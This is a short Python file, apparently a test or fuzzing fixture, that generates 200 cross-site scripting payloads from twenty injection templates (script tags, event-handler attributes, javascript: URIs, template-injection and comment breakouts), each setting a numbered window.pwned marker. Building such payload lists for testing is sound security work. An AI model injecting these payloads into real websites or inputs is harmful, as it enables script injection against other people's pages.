"""200 attempts to run a script: twenty forms, ten times, each with a number of its own."""

FORMS = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'><svg/onload={}>",
    "javascript:{}",
    "<a href=javascript:{}>x</a>",
    "</title><script>{}</script>",
    "<svg><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<body onload={}>",
    "<embed src=javascript:{}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "-->{}<!--",
    "\\u003cscript>{}</script>",
    "<math><mi xlink:href=javascript:{}>",
    "<object data=javascript:{}>",
    "<marquee onstart={}>",
    "<style>@import 'javascript:{}'</style>",
]
PAYLOADS = [form.format(f"window.pwned={number}") for number, form in enumerate(FORMS * 10)]
